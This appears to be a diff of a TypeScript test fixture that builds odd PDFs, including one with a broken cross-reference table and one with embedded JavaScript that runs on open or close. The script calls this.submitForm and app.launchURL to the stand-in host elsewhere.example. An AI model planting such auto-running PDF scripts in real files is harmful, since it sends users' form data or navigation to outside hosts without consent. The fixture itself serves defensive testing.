@@ -1,6 +1,7 @@
 /** PDFs written by hand that try something: a table of places that is wrong, a script, a file inside, a form that was filled in. */
 
-const hex = (text: string) => [...text].map((letter) => (letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('');
+const hex = (text: string) =>
+  [...text].map((letter) => (letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('');
 
 const words = ['借款合同', '贷款人：招联消费金融股份有限公司', '年利率为18%，逾期日息0.075%'];
 const drawn = `BT /F1 16 Tf 72 760 Td 26 TL ${words.map((line) => `<${hex(line)}> Tj T*`).join(' ')} ET`;
@@ -29,10 +30,13 @@ function written(catalog = '', more: readonly string[] = [], annotations = ''): 
   return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${end}`;
 }
 
-const script = 'app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\); app.launchURL\\("https://elsewhere.example/"\\);';
+const script =
+  'app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\); app.launchURL\\("https://elsewhere.example/"\\);';
 
 export const oddDocuments: Record<string, string> = {
-  'broken-table.pdf': written().replace(/startxref\n\d+/, 'startxref\n99999').replace(/\d{10} 00000 n/g, '0000000007 00000 n'),
+  'broken-table.pdf': written()
+    .replace(/startxref\n\d+/, 'startxref\n99999')
+    .replace(/\d{10} 00000 n/g, '0000000007 00000 n'),
   'with-script.pdf': written(
     '/OpenAction 8 0 R /AA << /WC 8 0 R >> /Names << /JavaScript << /Names [(first) 8 0 R] >> >>',
     [`<< /S /JavaScript /JS (${script}) >>`],
